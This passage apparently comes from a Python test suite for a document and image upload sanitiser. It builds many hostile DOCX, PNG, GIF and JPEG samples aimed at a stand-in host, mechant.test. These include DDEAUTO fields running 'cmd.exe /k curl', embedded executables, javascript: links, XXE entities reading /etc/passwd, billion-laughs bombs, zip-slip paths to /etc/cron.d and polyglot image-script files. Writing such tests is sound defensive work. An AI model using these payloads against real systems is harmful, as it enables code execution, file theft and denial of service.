        '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId9"/></w:object></w:r></w:p>',
        ("rId9", "oleObject", "embeddings/oleObject1.bin"),
        word__embeddings__oleObject1_bin=b"MZ mechant.test",
    )


@sent(DOCUMENTS)
def linked_object() -> bytes:
    return docx(
        '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" r:id="rId9" UpdateMode="OnCall"/></w:object></w:r></w:p>',
        ("rId9", "oleObject", "mhtml:http://mechant.test/a.html!x-usc:http://mechant.test/a.html", "External"),
    )


@sent(DOCUMENTS)
def embedded_workbook() -> bytes:
    return docx(
        "",
        ("rId9", "package", "embeddings/a.xlsx"),
        word__embeddings__a_xlsx=archive({"a": b"mechant.test"}, stored=True),
    )


@sent(DOCUMENTS)
def piece_of_the_web() -> bytes:
    return docx(
        '<w:altChunk r:id="rId9"/>',
        ("rId9", "aFChunk", "chunk.html"),
        word__chunk_html=b"<script src='http://mechant.test'></script>",
    )


@sent(DOCUMENTS)
def document_in_the_document() -> bytes:
    return docx('<w:subDoc r:id="rId9"/>', ("rId9", "subDocument", "http://mechant.test/a.docx", "External"))


@sent(DOCUMENTS)
def command_in_a_field() -> bytes:
    return docx(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k curl mechant.test"'))


@sent(DOCUMENTS)
def command_in_pieces() -> bytes:
    return docx(field("DD", "EAU", "TO cmd &quot;mech", "ant.test&quot;"))


@sent(DOCUMENTS)
def command_after_a_page_number() -> bytes:
    return docx(field(" PAGE ", " \\* MERGEFORMAT DDEAUTO mechant.test"))


@sent(DOCUMENTS)
def command_in_a_simple_field() -> bytes:
    return docx('<w:p><w:fldSimple w:instr="DDE cmd mechant.test"><w:r><w:t>a</w:t></w:r></w:fldSimple></w:p>')


@sent(DOCUMENTS)
def command_in_a_field_in_a_field() -> bytes:
    inner = field("QUOTE 68 68 69 65 85 84 79 mechant.test").removeprefix("<w:p>").removesuffix("</w:p>")
    return docx(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{inner}<w:r><w:instrText> PAGE </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


@sent(DOCUMENTS)
def field_that_never_ends() -> bytes:
    return docx(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE mechant.test</w:instrText></w:r></w:p>'
    )


@sent(DOCUMENTS)
def struck_out_command() -> bytes:
    return docx('<w:p><w:del w:id="1"><w:r><w:delInstrText>DDEAUTO mechant.test</w:delInstrText></w:r></w:del></w:p>')


@sent(DOCUMENTS)
def field_with_a_picture_from_elsewhere() -> bytes:
    return docx(field('INCLUDEPICTURE "http://mechant.test/a.png" \\\\d'))


@sent(DOCUMENTS)
def field_with_a_text_from_elsewhere() -> bytes:
    return docx(field('INCLUDETEXT "http://mechant.test/a.docx"'))


@sent(DOCUMENTS)
def field_with_a_link() -> bytes:
    return docx(field('HYPERLINK "file://mechant.test/a.exe"'))


@sent(DOCUMENTS)
def field_with_a_button() -> bytes:
    return docx(field("MACROBUTTON mechant.test Cliquez"))


@sent(DOCUMENTS)
def form_field_with_a_macro() -> bytes:
    return docx(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="mechant.test"/></w:ffData></w:fldChar></w:r>'
        '<w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


@sent(DOCUMENTS)
def link_to_a_script() -> bytes:
    return docx(
        '<w:p><w:hyperlink r:id="rId9" w:tooltip="mechant.test"><w:r><w:t>Ici</w:t></w:r></w:hyperlink></w:p>',
        ("rId9", "hyperlink", "javascript:fetch('//mechant.test')", "External"),
    )


@sent(DOCUMENTS)
def link_on_a_picture() -> bytes:
    return docx(
        blip('r:embed="rId8"', '<a:hlinkClick r:id="rId9"/><a:hlinkHover r:id="rId9"/>'),
        ("rId8", "image", "media/a.png"),
        ("rId9", "hyperlink", "http://mechant.test", "External"),
        word__media__a_png=png(),
    )


@sent(DOCUMENTS)
def picture_that_is_a_web_page() -> bytes:
    return docx(
        blip('r:embed="rId9"'), ("rId9", "image", "media/a.png"), word__media__a_png=b"<script>mechant.test</script>"
    )


@sent(DOCUMENTS)
def picture_with_a_page_behind_it() -> bytes:
    return docx(
        blip('r:embed="rId9"'),
        ("rId9", "image", "media/a.png"),
        word__media__a_png=png() + b"<script>mechant.test</script>",
    )


@sent(DOCUMENTS)
def picture_of_commands() -> bytes:
    emf = b"\x01\x00\x00\x00" + bytes(36) + b" EMF" + b"mechant.test"
    return docx(blip('r:embed="rId9"'), ("rId9", "image", "media/a.emf"), word__media__a_emf=emf)


@sent(DOCUMENTS)
def picture_with_a_script_beside_it() -> bytes:
    svg = '<a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><x:svgBlip xmlns:x="urn:x" r:embed="rId9"/></a:ext></a:extLst>'
    return docx(
        blip('r:embed="rId8"').replace("/></pic:blipFill>", f">{svg}</a:blip></pic:blipFill>"),
        ("rId8", "image", "media/a.png"),
        ("rId9", "image", "media/a.svg"),
        word__media__a_png=png(),
        word__media__a_svg=b"<svg onload='mechant.test'/>",
    )


@sent(DOCUMENTS, refusals.LargePicture)
def picture_too_wide() -> bytes:
    return docx(blip('r:embed="rId9"'), ("rId9", "image", "media/a.png"), word__media__a_png=wide_png())


@sent(DOCUMENTS)
def old_drawing_from_elsewhere() -> bytes:
    return docx(
        '<w:p><w:r><w:pict><v:shape id="a" href="http://mechant.test" onclick="mechant.test" style="width:9pt" target="_top">'
        '<v:imagedata src="http://mechant.test/a.png" r:href="rId9" o:href="http://mechant.test"/>'
        '<v:fill src="http://mechant.test"/><o:OLEObject Type="Link"/></v:shape></w:pict></w:r></w:p>',
        ("rId9", "image", "http://mechant.test/a.png", "External"),
    )


@sent(DOCUMENTS)
def chart() -> bytes:
    return docx(
        '<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart">'
        '<c:chart xmlns:c="urn:c" r:id="rId9"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>',
        ("rId9", "chart", "charts/chart1.xml"),
        word__charts__chart1_xml=b"<externalData>mechant.test</externalData>",
    )


@sent(DOCUMENTS)
def data_bound_to_the_text() -> bytes:
    return archive(
        {
            **members(
                '<w:sdt><w:sdtPr><w:dataBinding w:xpath="mechant.test"/><w:placeholder><w:docPart w:val="x"/></w:placeholder></w:sdtPr>'
                f"<w:sdtContent>{paragraph('Soudeuse')}</w:sdtContent></w:sdt>",
                ("rId9", "customXml", "../customXml/item1.xml"),
            ),
            "customXml/item1.xml": b"<a>mechant.test</a>",
            "docProps/custom.xml": b"<a>mechant.test</a>",
            "docProps/core.xml": b"<a>mechant.test</a>",
        }
    )


@sent(DOCUMENTS)
def letters_to_many_from_a_database() -> bytes:
    return archive(
        {
            **members(
                "",
                ("rId1", "settings", "settings.xml"),
                word__settings_xml=part(
                    "settings",
                    '<w:mailMerge><w:connectString w:val="DSN=mechant.test"/><w:dataSource r:id="rId1"/></w:mailMerge>'
                    '<w:docVars><w:docVar w:name="a" w:val="mechant.test"/></w:docVars>',
                ),
            ),
            "word/_rels/settings.xml.rels": relations(("rId1", "mailMergeSource", "http://mechant.test", "External")),
        }
    )


@sent(DOCUMENTS)
def frames_from_elsewhere() -> bytes:
    return archive(
        {
            **members(
                "",
                ("rId1", "webSettings", "webSettings.xml"),
                word__webSettings_xml=part(
                    "webSettings", '<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>'
                ),
            ),
            "word/_rels/webSettings.xml.rels": relations(("rId1", "frame", "http://mechant.test", "External")),
        }
    )


@sent(DOCUMENTS)
def command_in_a_header() -> bytes:
    return archive(
        {
            **members(
                '<w:p><w:pPr><w:sectPr><w:headerReference w:type="default" r:id="rId9"/></w:sectPr></w:pPr></w:p>',
                ("rId9", "header", "header1.xml"),
                word__header1_xml=part("hdr", field("DDEAUTO mechant.test") + blip('r:link="rId1"')),
            ),
            "word/_rels/header1.xml.rels": relations(("rId1", "image", "http://mechant.test/a.png", "External")),
        }
    )


@sent(DOCUMENTS)
def header_that_names_itself() -> bytes:
    again = '<w:p><w:pPr><w:sectPr><w:headerReference w:type="default" r:id="rId9"/></w:sectPr></w:pPr></w:p>'
    return archive(
        {
            **members(again, ("rId9", "header", "header1.xml"), word__header1_xml=part("hdr", again)),
            "word/_rels/header1.xml.rels": relations(("rId9", "header", "header1.xml")),
        }
    )


@sent(DOCUMENTS)
def note_with_a_picture_from_elsewhere() -> bytes:
    return archive(
        {
            **members(
                "",
                ("rId1", "footnotes", "footnotes.xml"),
                word__footnotes_xml=part(
                    "footnotes", '<w:footnote w:id="2">' + blip('r:link="rId1"') + "</w:footnote>"
                ),
            ),
            "word/_rels/footnotes.xml.rels": relations(("rId1", "image", "http://mechant.test/a.png", "External")),
        }
    )


@sent(DOCUMENTS)
def comment_and_glossary() -> bytes:
    return docx(
        '<w:p><w:commentRangeStart w:id="1"/><w:r><w:commentReference w:id="1"/></w:r></w:p>',
        ("rId1", "comments", "comments.xml"),
        ("rId2", "glossaryDocument", "glossary/document.xml"),
        word__comments_xml=part(
            "comments", f'<w:comment w:id="1" w:author="mechant.test">{paragraph("mechant.test")}</w:comment>'
        ),
        word__glossary__document_xml=body(field("DDEAUTO mechant.test")).encode(),
    )


@sent(DOCUMENTS)
def typeface_in_the_document() -> bytes:
    return archive(
        {
            **members(
                "",
                ("rId1", "fontTable", "fontTable.xml"),
                word__fontTable_xml=part("fonts", '<w:font w:name="A"><w:embedRegular r:id="rId1"/></w:font>'),
                word__fonts__font1_odttf=b"mechant.test",
            ),
            "word/_rels/fontTable.xml.rels": relations(("rId1", "font", "fonts/font1.odttf")),
        }
    )


@sent(DOCUMENTS)
def theme_from_elsewhere() -> bytes:
    theme = (
        f'{HEAD}<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{OFFICE}" name="t">'
        '<a:themeElements><a:fmtScheme name="f"><a:bgFillStyleLst><a:blipFill><a:blip r:link="rId1"/></a:blipFill></a:bgFillStyleLst>'
        "</a:fmtScheme></a:themeElements></a:theme>"
    )
    return archive(
        {
            **members("", ("rId1", "theme", "theme/theme1.xml"), word__theme__theme1_xml=theme.encode()),
            "word/theme/_rels/theme1.xml.rels": relations(("rId1", "image", "http://mechant.test/a.png", "External")),
        }
    )


@sent(DOCUMENTS)
def element_of_another_world() -> bytes:
    return docx(
        '<x:script xmlns:x="http://mechant.test/ns">mechant.test</x:script><w:p x:on="mechant.test" xmlns:x="http://mechant.test/ns"/>'
    )


@sent(DOCUMENTS)
def archive_with_a_program_behind_it() -> bytes:
    return docx(word__a_exe=b"MZ mechant.test")


@sent(DOCUMENTS)
def instruction_for_a_stylesheet() -> bytes:
    parts = members()
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:document", b"<?xml-stylesheet href='http://mechant.test'?><!-- mechant.test --><w:document"
    )
    return archive(parts)


# ---------------------------------------------------------------------- DOCX: refused
@sent(DOCUMENTS, refusals.TooMuch)
def sixty_megabytes_of_nothing() -> bytes:
    return docx(word__a_bin=bytes(61_000_000))


@sent(DOCUMENTS, refusals.TooMuch)
def part_that_swells() -> bytes:
    parts = members()
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + b" " * 15_000_000)
    return archive(parts)


@sent(DOCUMENTS, refusals.TooMuch)
def a_thousand_members() -> bytes:
    return archive({**members(), **{f"a/{at}.xml": b"" for at in range(1000)}})


@sent(DOCUMENTS, refusals.TooMuch)
def three_hundred_thousand_elements() -> bytes:
    return docx("".join(f"<w:p><w:r><w:t>{at}</w:t></w:r></w:p>" for at in range(100_000)))


@sent(DOCUMENTS, refusals.Broken)
def ten_thousand_boxes_in_boxes() -> bytes:
    return docx("<w:tbl>" * 10_000 + "</w:tbl>" * 10_000)


@sent(DOCUMENTS, refusals.Broken)
def member_out_of_its_folder() -> bytes:
    return archive({**members(), "../../../../tmp/mechant": b"mechant.test"})


@sent(DOCUMENTS, refusals.Broken)
def member_at_the_root() -> bytes:
    return archive({**members(), "/etc/cron.d/mechant": b"mechant.test"})


@sent(DOCUMENTS, refusals.Broken)
def member_of_another_system() -> bytes:
    return archive({**members(), "..\\..\\mechant": b"mechant.test"})


@sent(DOCUMENTS, refusals.Broken)
def same_member_twice() -> bytes:
    return twice("word/document.xml")


@sent(DOCUMENTS, refusals.Broken)
def same_member_in_capitals() -> bytes:
    return archive({**members(), "WORD/DOCUMENT.XML": b"mechant.test"})


def twice(name: str) -> bytes:
    import warnings

    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w") as package:
        warnings.simplefilter("ignore")
        for key, data in [*members().items(), (name, b"mechant.test")]:
            package.writestr(zipfile.ZipInfo(key, (2020, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


@sent(DOCUMENTS, refusals.Broken)
def member_that_is_a_link() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as package:
        member = zipfile.ZipInfo("word/a", (2020, 1, 1, 0, 0, 0))
        member.create_system, member.external_attr = 3, 0o120777 << 16
        package.writestr(member, "/etc/passwd")
    return out.getvalue()


@sent(DOCUMENTS, refusals.Locked)
def member_under_a_password() -> bytes:
    content = bytearray(docx())
    at = content.rindex(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


@sent(DOCUMENTS, refusals.Locked)
def document_under_a_password() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le")


@sent(DOCUMENTS, refusals.Broken)
def packed_by_another_method() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_BZIP2) as package:
        for name, data in members().items():
            package.writestr(name, data)
    return out.getvalue()


@sent(DOCUMENTS, refusals.Broken)
def member_that_lies_about_its_size() -> bytes:
    parts = members(word__a_bin=b"")
    content = bytearray(archive({**parts, "word/document.xml": parts["word/document.xml"] + b" " * 70_000_000}))
    at = content.index(b"word/document.xml", content.index(b"PK\x01\x02")) - 46
    content[at + 24 : at + 28] = struct.pack("<I", 900)
    return bytes(content)


def with_doctype(doctype: str, entity: str, encoding: str = "utf-8") -> bytes:
    text = body(paragraph(entity)).replace(HEAD, f'<?xml version="1.0" encoding="{encoding}"?>{doctype}')
    return archive({**members(), "word/document.xml": text.encode(encoding)})


@sent(DOCUMENTS, refusals.Broken)
def a_billion_laughs() -> bytes:
    lines = "".join(f'<!ENTITY a{at} "{f"&a{at - 1};" * 10}">' for at in range(1, 10))
    return with_doctype(f'<!DOCTYPE a [<!ENTITY a0 "ha">{lines}]>', "&a9;")


@sent(DOCUMENTS, refusals.Broken)
def one_long_laugh() -> bytes:
    return with_doctype(f'<!DOCTYPE a [<!ENTITY a "{"ha" * 50_000}">]>', "&a;" * 2000)


@sent(DOCUMENTS, refusals.Broken)
def entity_that_reads_a_file() -> bytes:
    return with_doctype('<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;")


@sent(DOCUMENTS, refusals.Broken)
def entity_that_reads_a_file_in_wide_letters() -> bytes:
    return with_doctype('<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;", "utf-16")


@sent(DOCUMENTS, refusals.Broken)
def definitions_from_elsewhere() -> bytes:
    return with_doctype(
        '<!DOCTYPE a SYSTEM "http://mechant.test/a.dtd" [<!ENTITY % b SYSTEM "http://mechant.test">%b;]>', ""
    )


@sent(DOCUMENTS, refusals.Broken)
def entities_in_the_list_of_types() -> bytes:
    return archive({**members(), "[Content_Types].xml": b'<!DOCTYPE a [<!ENTITY a "b">]><Types>&a;</Types>'})


@sent(DOCUMENTS, refusals.Broken)
def document_that_is_missing() -> bytes:
    parts = members()
    del parts["word/document.xml"]
    return archive(parts)


@sent(DOCUMENTS, refusals.WrongKind)
def list_of_types_that_is_missing() -> bytes:
    return archive({"a.txt": b"mechant.test"})


@sent(DOCUMENTS, refusals.WrongKind)
def open_document() -> bytes:
    return archive({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}, stored=True)


@sent(DOCUMENTS, refusals.WrongKind)
def workbook() -> bytes:
    return docx(main="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")


@sent(DOCUMENTS, refusals.WrongKind)
def document_elsewhere() -> bytes:
    return archive(
        {**members(), "_rels/.rels": relations(("rId1", "officeDocument", "http://mechant.test/a.xml", "External"))}
    )


@sent(DOCUMENTS, refusals.Broken)
def document_that_is_not_xml() -> bytes:
    return archive({**members(), "word/document.xml": b"\x00mechant.test"})


@sent(DOCUMENTS, refusals.Broken)
def document_that_is_something_else() -> bytes:
    return archive({**members(), "word/document.xml": b"<html><script>mechant.test</script></html>"})


@sent(DOCUMENTS, refusals.Broken)
def archive_cut_off() -> bytes:
    return docx()[:-40]


@sent(DOCUMENTS, refusals.Broken)
def archive_with_a_damaged_member() -> bytes:
    content = bytearray(docx())
    at = content.index(b"word/document.xml") + 17
    content[at + 10 : at + 60] = bytes(50)
    return bytes(content)


@sent(DOCUMENTS, refusals.WrongKind)
def program_before_the_archive() -> bytes:
    return b"MZ\x90\x00 mechant.test" + docx()


# ====================================================================== pictures
def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int, *extra: bytes, data: bytes | None = None) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    lines = zlib.compress(b"\x00" * ((width + 1) * height)) if data is None else data
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(extra) + chunk(b"IDAT", lines) + chunk(b"IEND", b"")


@cache
def wide_png() -> bytes:
    return png_of(60_000, 60_000, data=zeros(1))


@cache
def wide_jpeg() -> bytes:
    """Says in its header that it is 60 000 pixels a side; has eight."""
    content = bytearray(jpeg_with_words())
    at = content.index(b"\xff\xc0")
    content[at + 5 : at + 9] = struct.pack(">HH", 60_000, 60_000)
    return bytes(content)


@cache
def jpeg_with_words() -> bytes:
    out = io.BytesIO()
    exif = Image.Exif()
    exif[0x010E] = "mechant.test"
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (48.0, 25.0, 30.0)
    picture = Image.new("RGB", (24, 24), (200, 120, 40))
    picture.save(out, "JPEG", exif=exif, comment=b"mechant.test", xmp=b"<x>mechant.test</x>")
    return out.getvalue()


@sent(PORTRAITS)
def place_where_it_was_taken() -> bytes:
    return jpeg_with_words()


@sent(PORTRAITS)
def photograph_then_archive() -> bytes:
    return jpeg_with_words() + archive({"a.class": b"mechant.test"})


@sent(PORTRAITS)
def gif_then_web_page() -> bytes:
    out = io.BytesIO()
    Image.new("P", (9, 9)).save(out, "GIF", comment=b"*/=1;fetch('//mechant.test')/*")
    return out.getvalue() + b"<script src='//mechant.test'></script>"


@sent(PORTRAITS)
def png_then_pdf() -> bytes:
    return png_of(9, 9, chunk(b"tEXt", b"Comment\x00<?php mechant.test ?>")) + pdf(f"/OpenAction {SCRIPT}")


@sent(PORTRAITS)
def gif_of_a_thousand_frames() -> bytes:
    out = io.BytesIO()
    frames = [Image.new("P", (9, 9), at % 250) for at in range(1000)]
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    return out.getvalue()


@sent(PORTRAITS, refusals.LargePortrait)
def png_the_size_of_a_field() -> bytes:
    return wide_png()


@sent(PORTRAITS, refusals.LargePortrait)
def jpeg_the_size_of_a_field() -> bytes:
    return wide_jpeg()


@sent(PORTRAITS, refusals.NoPortrait)
def words_that_swell_in_a_picture() -> bytes:
    return png_of(9, 9, *[chunk(b"zTXt", b"a\x00\x00" + zeros(20))] * 40)


@sent(PORTRAITS, refusals.NoPortrait)
def drawing_with_a_script() -> bytes:
    return b"<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('//mechant.test')</script></svg>"


@sent(PORTRAITS, refusals.NoPortrait)
def web_page_called_png() -> bytes:
    return b"<html>mechant.test</html>"


@sent(PORTRAITS, refusals.NoPortrait)
def program_for_a_printer() -> bytes:
    return b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(mechant.test) run\n"


@sent(PORTRAITS, refusals.NoPortrait)
def photograph_cut_off() -> bytes:
    return jpeg_with_words()[:-300]


@sent(PORTRAITS, refusals.NoPortrait)
def tiff() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (9, 9)).save(out, "TIFF")
    return out.getvalue()


@sent(PORTRAITS, refusals.NoPortrait)
def nothing_at_all() -> bytes:
    return b""


@sent(PORTRAITS, refusals.HeavyPortrait)
def photograph_over_five_megabytes() -> bytes:
    return jpeg_with_words() + bytes(5 * 1024 * 1024)
